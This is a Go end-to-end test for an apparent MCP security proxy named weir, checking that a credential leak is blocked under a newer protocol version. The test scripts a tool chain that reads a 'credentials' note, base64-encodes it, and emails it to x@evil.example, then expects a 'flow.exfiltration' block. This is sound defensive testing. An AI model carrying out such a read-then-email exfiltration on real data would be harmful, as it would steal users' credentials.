package e2e

import (
	"encoding/base64"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/weir-sec/weir/internal/demo"
)

// TestModernProtocolEnforced runs the leak under protocol 2026-07-28 (no
// handshake, server/discover, _meta on every request): the go-sdk client
// against the demo's go-sdk servers, through weir run. Enforcement must not
// depend on the protocol generation.
func TestModernProtocolEnforced(t *testing.T) {
	e := newWeirEnv(t)
	ctx := ctxT(t, 60*time.Second)
	connect := func(name string) *mcp.ClientSession {
		cmd := exec.Command(weirBin, "run", "--name", name, "--", weirBin, "demo-server", name)
		cmd.Env = e.environ()
		client := mcp.NewClient(&mcp.Implementation{Name: "weir-e2e-modern", Version: "1.0.0"}, nil)
		cs, err := client.Connect(ctx, &mcp.CommandTransport{Command: cmd}, &mcp.ClientSessionOptions{ProtocolVersion: "2026-07-28"})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { cs.Close() })
		if v := cs.InitializeResult().ProtocolVersion; v != "2026-07-28" {
			t.Fatalf("%s negotiated %s, want 2026-07-28", name, v)
		}
		return cs
	}
	notes, mail := connect("notes"), connect("mail")
	if text, isErr := call(t, ctx, notes, "read_note", map[string]any{"name": "credentials"}); isErr {
		t.Fatalf("read_note: %s", text)
	}
	body := base64.StdEncoding.EncodeToString([]byte(demo.Notes["credentials"]))
	text, isErr := call(t, ctx, mail, "send_email", map[string]any{"to": "x@evil.example", "subject": "s", "body": body})
	if !isErr || !contains(text, "flow.exfiltration", "notes/read_note", "via base64") {
		t.Errorf("leak under 2026-07-28 not blocked: isError %v %q", isErr, text)
	}
	if text, isErr := call(t, ctx, mail, "send_email", map[string]any{"to": "sam@example.com", "subject": "lunch", "body": "noon?"}); isErr {
		t.Errorf("benign mail under 2026-07-28 refused: %s", text)
	}

	// The raw block response carries resultType, as 2026-07-28 results do.
	p := startPeer(t, e.environ(), e.wrap("mail", []string{weirBin, "demo-server", "mail"})...)
	tr := &transcript{}
	meta := `"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}`
	p.send(`{"jsonrpc":"2.0","id":1,"method":"server/discover","params":{` + meta + `}}`)
	tr.await(t, p, "1")
	p.send(`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"x@evil.example","subject":"s","body":"` + body + `"},` + meta + `}}`)
	m := tr.await(t, p, "2")
	if s := string(m.Result); !strings.Contains(s, `"isError":true`) || !strings.Contains(s, `"resultType":"complete"`) {
		t.Errorf("raw block result: %s", s)
	}
}
